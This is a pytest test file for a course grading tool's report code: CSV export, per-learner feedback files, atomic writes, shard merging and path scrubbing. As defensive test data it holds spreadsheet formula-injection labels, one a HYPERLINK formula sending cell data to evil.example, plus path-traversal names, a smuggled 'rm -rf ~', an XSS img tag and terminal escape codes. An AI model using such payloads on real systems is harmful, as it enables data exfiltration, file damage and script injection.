"""Reports of a class's grades: CSV for a learning-management system, one feedback file per
learner, atomic writes, merging shards graded apart, and scrubbing the grader's internals."""

import copy
import csv
import io
import json
import os
from pathlib import Path

import pytest

from gpt2_course.grading import reports
from gpt2_course.grading.reports import (
    CheckGrade,
    Grade,
    format_csv,
    format_json,
    format_table,
    grade_from_json,
    load_grades,
    scrub,
    write_atomic,
    write_feedback_dir,
)

IDS = ["layernorm.LayerNorm", "embeddings.Embedding", "attention.causal_mask"]


def make_grade(label: str, passed=(True, False, True), isolation="bubblewrap sandbox") -> Grade:
    checks = [
        CheckGrade(i, p, 2.0 if p else 0.0, 2.0, "ok" if p else f"{i} is wrong")
        for i, p in zip(IDS, passed, strict=True)
    ]
    return Grade(label, sum(c.points for c in checks), 2.0 * len(IDS), checks, isolation)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# ---------------------------------------------------------------- Grade and JSON


def test_to_json_and_format_json():
    grade = make_grade("alice.zip")
    obj = grade.to_json()
    assert list(obj) == ["submission", "score", "max_score", "checks", "isolation"]
    assert obj["isolation"] == "bubblewrap sandbox"
    assert list(obj["checks"][0]) == ["id", "passed", "points", "max_points", "feedback"]
    assert json.loads(format_json([grade])) == [obj]
    assert grade_from_json(obj) == grade
    assert Grade("x", 0.0, 0.0).isolation == ""


def test_table_shows_failed_checks_isolation_and_no_control_characters():
    table = format_table([make_grade("alice.zip"), make_grade("evil\x1b[2J\nname\u202e")])
    row = next(line for line in table.splitlines() if line.startswith("alice.zip"))
    assert "4/6" in row and "embeddings.Embedding" in row and "layernorm" not in row
    assert "\x1b" not in table and "evil\\x1b[2J\\nname\\u202e" in table
    assert "isolation: bubblewrap sandbox" in table
    assert format_table([]).startswith("submission")


# ---------------------------------------------------------------- CSV


def test_csv_header_and_one_row_per_learner():
    grades = [make_grade("alice.zip"), make_grade("bob", passed=(False, False, False))]
    header, *body = rows(format_csv(grades))
    assert header == ["submission", "score", "max_score", *IDS]
    assert body == [
        ["alice.zip", "4.0", "6.0", "2.0", "0.0", "2.0"],
        ["bob", "0.0", "6.0", "0.0", "0.0", "0.0"],
    ]
    assert rows(format_csv([])) == [["submission", "score", "max_score"]]


def test_csv_check_missing_from_a_grade_counts_zero():
    short = Grade("carol", 2.0, 2.0, [CheckGrade(IDS[0], True, 2.0, 2.0, "")])
    _, alice, carol = rows(format_csv([make_grade("alice"), short]))
    assert carol == ["carol", "2.0", "2.0", "2.0", "0", "0"]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_each_formula_prefix(prefix):
    label = f"{prefix}cmd|' /C calc'!A0"
    (_, row) = rows(format_csv([make_grade(label)]))
    assert row[0] == "'" + label
    assert row[1:3] == ["4.0", "6.0"]  # numbers stay numbers


@pytest.mark.parametrize(
    "label",
    ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "@SUM(1+1)*cmd|' /C calc'!A0"],
)
def test_csv_formula_labels_from_learners(label):
    (_, row) = rows(format_csv([make_grade(label)]))
    assert row[0] == "'" + label
    assert reports.csv_cell(-1.5) == -1.5 and reports.csv_cell(0) == 0
    assert reports.csv_cell("safe = fine") == "safe = fine"


def test_csv_label_the_os_could_not_decode():
    label = os.fsdecode(b"caf\xe9.zip")  # a lone surrogate on POSIX
    text = format_csv([make_grade(label)])
    text.encode("utf-8")  # printable and writable
    assert "caf" in text


# ---------------------------------------------------------------- atomic writes


def test_write_atomic_writes_and_leaves_no_temp_files(tmp_path):
    target = tmp_path / "grades.csv"
    write_atomic(target, "first\n")
    write_atomic(target, "second, ünïcode\n")
    assert target.read_text(encoding="utf-8") == "second, ünïcode\n"
    assert os.listdir(tmp_path) == ["grades.csv"]
    assert target.stat().st_mode & 0o777 == 0o666 & ~reports._umask()


def test_write_atomic_failure_keeps_old_file_and_cleans_up(tmp_path, monkeypatch):
    target = tmp_path / "grades.csv"
    target.write_text("old")

    def broken_replace(src, dst):
        raise OSError("disk full")

    monkeypatch.setattr(reports.os, "replace", broken_replace)
    with pytest.raises(OSError, match="disk full"):
        write_atomic(target, "new")
    monkeypatch.undo()
    with pytest.raises(UnicodeEncodeError):
        write_atomic(target, "bad \udce9")
    assert target.read_text() == "old"
    assert os.listdir(tmp_path) == ["grades.csv"]


# ---------------------------------------------------------------- feedback files


def test_feedback_file_content(tmp_path):
    grade = make_grade("alice.zip")
    grade.checks[1].feedback = "expected:\n```\ntensor([1., 2.])\n```\ngot `None`\n# not a heading"
    (path,) = write_feedback_dir([grade], tmp_path / "feedback")
    assert path == tmp_path / "feedback" / "alice.zip.md"
    text = path.read_text(encoding="utf-8")
    assert text.startswith("# Feedback: alice.zip\n")
    assert "**Score:** 4 / 6" in text
    assert "bubblewrap sandbox" in text
    for check_id in IDS:
        assert f"`{check_id}`" in text
    assert "| `embeddings.Embedding` | FAILED | 0 / 2 |" in text
    assert "| `layernorm.LayerNorm` | passed | 2 / 2 |" in text
    # the feedback sits whole in a fence longer than any backtick run inside it
    block = "````text\n" + grade.checks[1].feedback + "\n````"
    assert block in text
    assert os.listdir(tmp_path / "feedback") == ["alice.zip.md"]


def test_feedback_without_isolation_or_checks(tmp_path):
    (path,) = write_feedback_dir([Grade("bob", 0.0, 0.0)], tmp_path)
    text = path.read_text()
    assert "not recorded" in text and "No checks were run." in text


@pytest.mark.parametrize(
    "label, name",
    [
        ("../../etc/passwd", "passwd.md"),
        ("..", "submission.md"),
        ("/", "submission.md"),
        (".bashrc", "bashrc.md"),
        ("submissions/alice/", "alice.md"),
        ("C:\\Users\\eve\\work.zip", "work.zip.md"),
        ("a..b", "a.b.md"),
        ("-rf *", "rf.md"),
        ("nul.txt", "_nul.txt.md"),
        ("élève #1; rm -rf ~", "eleve_1_rm_-rf.md"),
        ("学生", "submission.md"),
        ("x" * 300, "x" * reports.MAX_NAME + ".md"),
        (os.fsdecode(b"caf\xe9"), "caf.md"),
    ],
)
def test_feedback_file_names_are_safe(tmp_path, label, name):
    (path,) = write_feedback_dir([make_grade(label)], tmp_path)
    assert path.name == name
    assert path.parent == tmp_path
    assert os.listdir(tmp_path) == [name]


def test_feedback_title_escapes_markdown(tmp_path):
    (path,) = write_feedback_dir([make_grade("<img src=x onerror=alert(1)>*_`x`_*\n# h")], tmp_path)
    title = path.read_text().splitlines()[0]
    assert title == "# Feedback: \\<img src=x onerror=alert(1)\\>\\*\\_\\`x\\`\\_\\*\\\\n# h"


def test_feedback_file_names_unique_when_labels_sanitise_alike(tmp_path):
    labels = ["a/alice", "b/alice", "alice?", "Alice", "alice-2"]
    paths = write_feedback_dir([make_grade(label) for label in labels], tmp_path)
    assert [p.name for p in paths] == [
        "alice.md",
        "alice-2.md",
        "alice-3.md",
        "Alice-4.md",
        "alice-2-2.md",
    ]
    assert sorted(os.listdir(tmp_path)) == sorted(p.name for p in paths)
    assert "# Feedback: b/alice" in paths[1].read_text()


# ---------------------------------------------------------------- merging shards


def write_shard(path: Path, grades: list) -> Path:
    path.write_text(json.dumps([g.to_json() if isinstance(g, Grade) else g for g in grades]))
    return path


def test_merge_sorts_by_label_and_round_trips(tmp_path):
    a = write_shard(tmp_path / "a.json", [make_grade("zoe"), make_grade("bob")])
    b = write_shard(tmp_path / "b.json", [make_grade("alice", isolation="")])
    merged = load_grades([a, b])
    assert [g.submission for g in merged] == ["alice", "bob", "zoe"]
    assert merged[1] == make_grade("bob")
    # an older shard without an isolation field still reads
    old = make_grade("dan").to_json()
    del old["isolation"]
    (dan,) = load_grades([write_shard(tmp_path / "c.json", [old])])
    assert dan.isolation == ""


def good() -> dict:
    return make_grade("alice").to_json()


def broken(change) -> dict:
    obj = copy.deepcopy(good())
    change(obj)
    return obj


BAD_GRADES = {
    "not an object": ([1, 2], "expected an object, got list"),
    "missing field": (broken(lambda o: o.pop("score")), "missing field(s) score"),
    "unknown field": (broken(lambda o: o.update(extra=1)), "unknown field(s) extra"),
    "label type": (broken(lambda o: o.update(submission=3)), "submission must be"),
    "empty label": (broken(lambda o: o.update(submission="")), "submission must be"),
    "score type": (broken(lambda o: o.update(score="4")), "score must be a finite number"),
    "score bool": (broken(lambda o: o.update(score=True)), "score must be a finite number"),
    "max_score type": (broken(lambda o: o.update(max_score=None)), "max_score must be"),
    "isolation type": (broken(lambda o: o.update(isolation=1)), "isolation must be a string"),
    "checks type": (broken(lambda o: o.update(checks={})), "checks must be a list"),
    "check type": (broken(lambda o: o["checks"].append("x")), "checks[3]: expected an object"),
    "check id type": (broken(lambda o: o["checks"][0].update(id=1)), "id must be"),
    "passed type": (broken(lambda o: o["checks"][0].update(passed=1)), "passed must be"),
    "points type": (broken(lambda o: o["checks"][0].update(points="2")), "points must be"),
    "max_points type": (broken(lambda o: o["checks"][0].update(max_points=[])), "max_points"),
    "feedback type": (broken(lambda o: o["checks"][0].update(feedback=None)), "feedback must"),
    "check field": (broken(lambda o: o["checks"][0].pop("feedback")), "missing field(s) feedback"),
    "points above max": (
        broken(lambda o: (o["checks"][0].update(points=3.0), o.update(score=5.0))),
        "points 3.0 outside 0..max_points (2.0)",
    ),
    "negative points": (
        broken(lambda o: (o["checks"][0].update(points=-1.0), o.update(score=1.0))),
        "points -1.0 outside 0..max_points",
    ),
    "duplicate check": (
        broken(lambda o: o["checks"].append(dict(o["checks"][0]))),
        "check 'layernorm.LayerNorm' appears twice",
    ),
    "score mismatch": (broken(lambda o: o.update(score=5.0)), "score 5.0 is not the sum"),
    "max mismatch": (broken(lambda o: o.update(max_score=7.0)), "max_score 7.0 is not the sum"),
}


@pytest.mark.parametrize("case", list(BAD_GRADES))
def test_merge_rejects_each_bad_field(tmp_path, case):
    obj, message = BAD_GRADES[case]
    shard = write_shard(tmp_path / "shard-3.json", [good() | {"submission": "zed"}, obj])
    with pytest.raises(ValueError) as error:
        load_grades([shard])
    assert str(error.value).startswith(f"{shard}: grade #2")
    assert message in str(error.value)


@pytest.mark.parametrize(
    "text, message",
    [
        ("{not json", "not valid JSON"),
        ('{"submission": "a"}', "expected a JSON list of grades"),
        ('[{"submission": "a", "submission": "b"}]', "duplicate key 'submission'"),
        ('[{"score": NaN}]', "NaN is not a number JSON allows"),
    ],
)
def test_merge_rejects_bad_files(tmp_path, text, message):
    shard = tmp_path / "bad.json"
    shard.write_text(text)
    with pytest.raises(ValueError, match=message) as error:
        load_grades([shard])
    assert str(error.value).startswith(str(shard))
    with pytest.raises(ValueError, match="cannot read"):
        load_grades([tmp_path / "missing.json"])


def test_merge_rejects_duplicate_labels(tmp_path):
    a = write_shard(tmp_path / "a.json", [make_grade("alice"), make_grade("bob")])
    b = write_shard(tmp_path / "b.json", [make_grade("carol"), make_grade("alice")])
    with pytest.raises(
        ValueError, match=r"b\.json: duplicate submission 'alice' \(also in .*a\.json\)"
    ):
        load_grades([a, b])
    c = write_shard(tmp_path / "c.json", [make_grade("dan"), make_grade("dan")])
    with pytest.raises(ValueError, match="duplicate submission 'dan' .also in earlier in the same"):
        load_grades([c])


def test_merge_rejects_mismatched_check_ids(tmp_path):
    a = write_shard(tmp_path / "a.json", [make_grade("alice")])
    fewer = make_grade("bob")
    fewer.checks.pop()
    fewer.score, fewer.max_score = 2.0, 4.0
    b = write_shard(tmp_path / "b.json", [fewer])
    with pytest.raises(ValueError, match=r"b\.json: submission 'bob' has check ids that differ"):
        load_grades([a, b])
    with pytest.raises(ValueError, match=r"missing \['attention.causal_mask'\]"):
        load_grades([a, b])
    renamed = make_grade("bob")
    renamed.checks[0].id = "layernorm.Other"
    with pytest.raises(ValueError, match=r"missing \['layernorm.LayerNorm'\]; extra"):
        load_grades([a, write_shard(tmp_path / "c.json", [renamed])])
    swapped = make_grade("bob")
    swapped.checks.reverse()
    with pytest.raises(ValueError, match="different order"):
        load_grades([a, write_shard(tmp_path / "d.json", [swapped])])


# ---------------------------------------------------------------- scrub


def test_scrub_replaces_secrets_and_grader_internals():
    text = (
        'File "/tmp/gpt2-course-grade-k3j_x9/unzipped/alice/layernorm.py", line 3\n'
        "in gpt2_course_submission_1a2b3c.layernorm: "
        "gpt2_course_submission_deadbeef99 also '/tmp/gpt2-course-grade-zz'"
    )
    secrets = {
        "/tmp/gpt2-course-grade-k3j_x9/unzipped/alice": "<submission>",
        "gpt2_course_submission_1a2b3c": "your code",
    }
    assert scrub(text, secrets) == (
        'File "<submission>/layernorm.py", line 3\n'
        "in your code.layernorm: submission also '<grader>'"
    )
    assert scrub(text, {}) == (
        'File "<grader>/unzipped/alice/layernorm.py", line 3\n'
        "in submission.layernorm: submission also '<grader>'"
    )


def test_scrub_longest_key_first_and_values_never_rescrubbed():
    secrets = {"/work/x": "<A>", "/work/x/sub": "<B>", "<A>": "never", "": "ignored"}
    assert scrub("/work/x/sub/f.py and /work/x/g.py", secrets) == "<B>/f.py and <A>/g.py"
    assert scrub("nothing here", {}) == "nothing here"


def test_csv_label_with_line_breaks_stays_one_row():
    grades = [make_grade("two\nlines"), make_grade("carriage\rreturn"), make_grade("bob")]
    _, *body = rows(format_csv(grades))
    assert [row[0] for row in body] == ["two\nlines", "carriage\rreturn", "bob"]
